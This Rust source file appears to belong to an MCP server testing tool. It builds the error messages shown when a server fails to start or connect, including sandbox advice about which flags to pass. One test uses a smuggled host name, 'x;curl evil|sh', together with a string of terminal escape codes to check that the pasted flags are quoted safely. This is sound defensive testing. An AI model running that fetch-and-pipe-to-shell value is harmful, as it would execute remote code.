//! Why no conversation came about: what was tried, on what, and what to do.

use std::fmt::Write as _;
use std::time::Duration;

use wallfacer_process::{Ending, Process, StartError, Status};

use super::fault::{Fault, Faults};
use super::http::{HttpError, SetupError};
use super::sample::last_lines;
use super::shortened;
use crate::target::{Version, quoted_for_shell};
use crate::world::{Lack, Sought};

/// A path or a host in a message; a longer one is cut, and then no flag is offered for it.
const MAX_PLACE: usize = 200;

/// The error of the modern era that names the versions a server does support.
const UNSUPPORTED_VERSION: i64 = -32022;
const METHOD_NOT_FOUND: i64 = -32601;

/// The server could not be reached, or does not speak as it should.
#[derive(Debug, thiserror::Error)]
pub enum ConnectError {
    #[error("cannot start the server: {}{}", .0, start_advice(.0))]
    Start(#[from] StartError),
    #[error("{}", exited(server, *ending, printed, stderr))]
    Exited { server: String, ending: Option<Ending>, printed: String, stderr: String },
    #[error("{}", silent(server, method, *waited, stderr))]
    Silent { server: String, method: &'static str, waited: Duration, stderr: String },
    /// We started the server, and nothing listens where it should.
    #[error("{}", deaf(server, url, *waited, stderr))]
    Deaf { server: String, url: String, waited: Duration, stderr: String },
    #[error(
        "`{server}` was not started, for something listens at {url} already; stop that, or leave the command away to test it"
    )]
    Taken { server: String, url: String },
    /// What the user demands of the server's world cannot be had.
    #[error("`{server}` is not tested, for what --sandbox or --require demands cannot be had: {why}")]
    Unmet { server: String, why: String },
    /// It does not start in the sandbox, and is not run without.
    #[error("{}", not_in_sandbox(failure, sought, *may_do_without))]
    NotInSandbox {
        failure: Box<ConnectError>,
        sought: Sought,
        /// Whether its user may choose to run it without; not where confinement is demanded.
        may_do_without: bool,
    },
    #[error("{}", malformed(server, method, faults, sample))]
    Malformed { server: String, method: &'static str, faults: Faults, sample: String },
    #[error("`{server}` refused `{method}`: {message} (code {code}){}", refusal_advice(method, *code))]
    Refused { server: String, method: &'static str, code: i64, message: String },
    #[error("{}", status_text(server, *status, body))]
    HttpStatus { server: String, status: u16, body: String },
    #[error(
        "`{server}` speaks {offered}, which is not {wanted}; leave out --protocol to take what it speaks"
    )]
    OtherVersion { server: String, wanted: Version, offered: String },
    #[error("`{server}` speaks version `{offered}` of the protocol, which wallfacer does not know")]
    UnknownVersion { server: String, offered: String },
    #[error("{}{}", .0, http_advice(.0))]
    Http(#[from] HttpError),
    #[error(transparent)]
    Setup(#[from] SetupError),
}

impl ConnectError {
    /// Whether running the server without the sandbox is its user's to choose.
    pub fn may_do_without_sandbox(&self) -> bool {
        matches!(self, Self::NotInSandbox { may_do_without: true, .. })
    }

    /// The HTTP status that said so, where one did.
    pub fn status(&self) -> Option<u16> {
        match self.failure() {
            Self::HttpStatus { status, .. } => Some(*status),
            _ => None,
        }
    }

    /// The same with what a process wrote to stderr, where that is missing: a second process writes where the first does.
    pub(super) fn with_words_of(mut self, process: &Process) -> ConnectError {
        if let Self::Exited { stderr, .. } | Self::Silent { stderr, .. } = &mut self
            && stderr.is_empty()
        {
            *stderr = last_lines(&process.stderr().tail);
        }
        self
    }

    /// What went wrong, wherever it ran.
    pub fn failure(&self) -> &ConnectError {
        match self {
            Self::NotInSandbox { failure, .. } => failure,
            other => other,
        }
    }
}

fn start_advice(error: &StartError) -> &'static str {
    match error {
        StartError::NotInPath { .. } => "; install it, or give its whole path",
        StartError::NoSuchFile { .. } => "; check the path of the command",
        StartError::NotExecutable { .. } => "; make it executable, or put its interpreter in front of it",
        _ => "",
    }
}

fn exited(server: &str, ending: Option<Ending>, printed: &str, stderr: &str) -> String {
    let mut text = match ending.map(|ending| ending.status) {
        Some(Status::Exited(code)) => format!("`{server}` exited with code {code} before it answered"),
        Some(Status::Signalled { signal, .. }) => {
            format!("`{server}` was killed by signal {signal}{} before it answered", signal_name(signal))
        }
        Some(Status::Unknown) => {
            format!("`{server}` ended before it answered: the process that watches over it was killed")
        }
        None => format!("`{server}` closed its output before it answered"),
    };
    if !printed.is_empty() {
        let _infallible = write!(text, "; it printed `{printed}`");
    }
    add_stderr(&mut text, stderr);
    text
}

/// Signals that have the same number everywhere and that servers die of.
fn signal_name(signal: i32) -> &'static str {
    match signal {
        4 => " (SIGILL)",
        6 => " (SIGABRT)",
        8 => " (SIGFPE)",
        9 => " (SIGKILL)",
        11 => " (SIGSEGV)",
        15 => " (SIGTERM)",
        _ => "",
    }
}

fn silent(server: &str, method: &str, waited: Duration, stderr: &str) -> String {
    let mut text = format!(
        "`{server}` gave no answer to `{method}` within {}s; is it an MCP server? (--startup-timeout gives it longer)",
        waited.as_secs_f64()
    );
    add_stderr(&mut text, stderr);
    text
}

fn deaf(server: &str, url: &str, waited: Duration, stderr: &str) -> String {
    let mut text = format!(
        "`{server}` was started, but nothing listens at {url} after {}s; does it use that port? \
         (--startup-timeout gives it longer)",
        waited.as_secs_f64()
    );
    add_stderr(&mut text, stderr);
    text
}

fn add_stderr(text: &mut String, stderr: &str) {
    if stderr.trim().is_empty() {
        text.push_str("; it wrote nothing to stderr");
        return;
    }
    text.push_str("; its stderr ends with:");
    for line in stderr.lines() {
        let _infallible = write!(text, "\n  | {line}");
    }
}

/// What went wrong, what the server did not get, and which flag gives it that.
fn not_in_sandbox(failure: &ConnectError, sought: &Sought, may_do_without: bool) -> String {
    let mut text = with_causes(failure);
    if sought.lacks.is_empty() {
        text.push_str("\nit was started in the sandbox, ");
        text.push_str(match sought.watched {
            true => "and was not seen to look for anything that is hidden there",
            false => "and nobody could watch what it looked for there",
        });
        text.push_str(
            "; if it needs a path of your home or the network, --keep PATH and --net host give it that",
        );
    } else {
        text.push_str("\nit ran in the sandbox, where these were missing:");
        for lack in &sought.lacks {
            let _infallible = write!(text, "\n  - {}", lack_text(lack));
        }
    }
    if may_do_without {
        text.push_str("\nas a last resort, if you trust it, --sandbox off runs it with all your rights");
    }
    text
}

fn with_causes(error: &ConnectError) -> String {
    let causes = std::iter::successors(std::error::Error::source(error), |cause| cause.source());
    causes.map(ToString::to_string).fold(error.to_string(), |text, cause| {
        if text.contains(&cause) { text } else { format!("{text}: {cause}") }
    })
}

fn lack_text(lack: &Lack) -> String {
    match lack {
        Lack::Hidden(path) => {
            let (shown, word) = place(&path.to_string_lossy());
            let flag = word.map(|word| format!("; --keep {word} shows it")).unwrap_or_default();
            format!("{shown}, which exists outside{flag}")
        }
        Lack::Host { host, port } => {
            let host = if host.contains(':') { format!("[{host}]") } else { host.clone() };
            let (shown, word) = place(&format!("{host}:{port}"));
            let flag = word.map(|word| format!("--net allow={word}, or ")).unwrap_or_default();
            format!("{shown}: the sandbox blocks outgoing connections; {flag}--net host lets it through")
        }
        Lack::Name(name) => {
            let (shown, _) = place(name);
            format!("{shown}, a name that it asked for; --net host lets it through")
        }
        Lack::Socket(path) => format!("{}, a socket of another program", place(&path.to_string_lossy()).0),
        Lack::Unreadable(path) => {
            format!("{}, which it may not read there", place(&path.to_string_lossy()).0)
        }
        Lack::Unwritable(path) => {
            format!("{}, which it may not write there", place(&path.to_string_lossy()).0)
        }
        Lack::Call(name) => format!("the system call `{name}`, which is refused there"),
        Lack::Program(name) => {
            format!("the program `{}`, which is in no directory of PATH", shortened(name, MAX_PLACE))
        }
    }
}

/// A place as it is shown, and as a shell takes it: none where the two are not the same letters, because a server could
/// have chosen them to be pasted.
fn place(text: &str) -> (String, Option<String>) {
    let shown = shortened(text, MAX_PLACE);
    let word = (shown == text).then(|| quoted_for_shell(text));
    (shown, word)
}

fn malformed(server: &str, method: &str, faults: &Faults, sample: &str) -> String {
    let advice = if faults.has(Fault::WrongContentType) {
        "; is this the address of an MCP server, or of a web page or proxy?"
    } else if faults.has(Fault::Redirect) {
        "; give --url the address of the server itself"
    } else if faults.has(Fault::Oversized) {
        "; --max-line lets longer ones in"
    } else if faults.has(Fault::NotJson) {
        "; a server must print nothing but its messages"
    } else {
        ""
    };
    let sent = if faults.is_empty() { sample.to_owned() } else { format!("{faults}{}", quoted(sample)) };
    format!("`{server}` gave no valid answer to `{method}`, it sent {sent}{advice}")
}

fn quoted(sample: &str) -> String {
    if sample.is_empty() { String::new() } else { format!(" (`{sample}`)") }
}

/// Both questions are put to a server of the other era only when --protocol says so.
fn refusal_advice(method: &str, code: i64) -> &'static str {
    match (method, code) {
        ("initialize", METHOD_NOT_FOUND) => {
            "; every MCP server knows this request, so this is not one, or it sends back what it is sent"
        }
        ("server/discover", _) | (_, UNSUPPORTED_VERSION) => "; leave out --protocol to take what it speaks",
        _ => "",
    }
}

fn status_text(server: &str, status: u16, body: &str) -> String {
    let advice = match status {
        401 => "give credentials with --header 'Authorization: Bearer …'",
        403 => "the server forbids it, check the credentials and the host name",
        404 | 405 => "is the path of the URL right?",
        502..=504 => "a proxy in front of the server does not reach it",
        500 => "the server failed, its own log may say why",
        _ => "is this the address of an MCP server?",
    };
    format!("`{server}` answered with HTTP status {status}{}; {advice}", quoted(body))
}

fn http_advice(error: &HttpError) -> &'static str {
    match error {
        HttpError::Connect { reason, .. } if reason.contains("nothing listens") => {
            "; is the server running? With `-- COMMAND` it is started first"
        }
        HttpError::Connect { .. } => "; check the host in the URL",
        HttpError::Tls { reason, .. } if reason.contains("InvalidContentType") => {
            "; if the server speaks plain HTTP, write http://"
        }
        HttpError::Tls { reason, .. } if reason.contains("not valid for name") => {
            "; reach the server by the name in its certificate"
        }
        HttpError::Tls { reason, .. } if reason.contains("certificate") => {
            "; if you trust it, name a file with its certificate in SSL_CERT_FILE"
        }
        _ => "",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exited(stderr: &str) -> ConnectError {
        let server = "node server.js".to_owned();
        ConnectError::Exited { server, ending: None, printed: String::new(), stderr: stderr.to_owned() }
    }

    fn refused(failure: ConnectError, lacks: Vec<Lack>, may_do_without: bool) -> String {
        let sought = Sought { watched: true, lacks };
        ConnectError::NotInSandbox { failure: Box::new(failure), sought, may_do_without }.to_string()
    }

    #[test]
    fn a_file_that_is_hidden_is_told_with_the_flag_that_shows_it() {
        let lacks = ["/home/me/.config/app/settings.json", "/home/me/My Notes/it's.db"];
        let lacks = lacks.map(|path| Lack::Hidden(path.into())).to_vec();
        insta::assert_snapshot!(refused(exited("Error: ENOENT, open settings.json"), lacks, true));
    }

    #[test]
    fn a_host_that_is_out_of_reach_is_told_with_the_flag_that_lets_it_through() {
        let host = |host: &str, port| Lack::Host { host: host.to_owned(), port };
        let lacks = vec![
            host("db.example.com", 5432),
            host("2001:db8::7", 443),
            Lack::Name("api.example.com".to_owned()),
        ];
        insta::assert_snapshot!(refused(exited("connect ECONNREFUSED"), lacks, true));
    }

    #[test]
    fn what_is_refused_or_nowhere_is_told() {
        let lacks = vec![
            Lack::Call("mount"),
            Lack::Program("git".to_owned()),
            Lack::Socket("/run/docker.sock".into()),
            Lack::Unwritable("/srv/data/app.db".into()),
            Lack::Unreadable("/srv/keys/app.pem".into()),
        ];
        insta::assert_snapshot!(refused(exited(""), lacks, true));
    }

    #[test]
    fn where_nothing_is_known_that_is_said_and_whether_anybody_watched() {
        let failure = Box::new(exited("usage: server --port N"));
        let unseen = ConnectError::NotInSandbox { failure, sought: Sought::default(), may_do_without: true }
            .to_string();
        let seen = refused(exited("usage: server --port N"), Vec::new(), true);
        insta::assert_snapshot!([seen, unseen].join("\n\n"));
    }

    #[test]
    fn a_silent_server_is_told_with_what_it_waits_for() {
        let (server, waited) = ("node server.js".to_owned(), Duration::from_secs(30));
        let failure = ConnectError::Silent { server, method: "initialize", waited, stderr: String::new() };
        let lacks = vec![Lack::Host { host: "db.example.com".to_owned(), port: 5432 }];
        insta::assert_snapshot!(refused(failure, lacks, true));
    }

    #[test]
    fn where_confinement_is_demanded_nothing_else_is_offered() {
        let lacks = vec![Lack::Hidden("/home/me/.apprc".into())];
        insta::assert_snapshot!(refused(exited("no configuration"), lacks, false));
    }

    #[test]
    fn a_start_that_failed_keeps_its_cause() {
        let source = std::io::Error::from_raw_os_error(2);
        let failure = StartError::Execute { path: "/home/me/bin/server".into(), source };
        let told = refused(failure.into(), vec![Lack::Hidden("/home/me/bin/server".into())], true);
        assert!(told.contains("cannot execute `/home/me/bin/server`: No such file"), "{told}");
    }

    #[test]
    fn what_a_server_chose_does_nothing_when_it_is_pasted() {
        let name = "x;curl evil|sh".to_owned();
        let told = refused(exited(""), vec![Lack::Host { host: name, port: 80 }], true);
        assert!(told.contains("--net allow='x;curl evil|sh:80'"), "{told}");
        let hidden = Lack::Host { host: "a\u{1b}[2Jb\u{202e}".to_owned(), port: 80 };
        let told = refused(exited(""), vec![hidden], true);
        assert!(
            !told.contains("allow=") && !told.chars().any(|letter| letter.is_control() && letter != '\n')
        );
    }
}
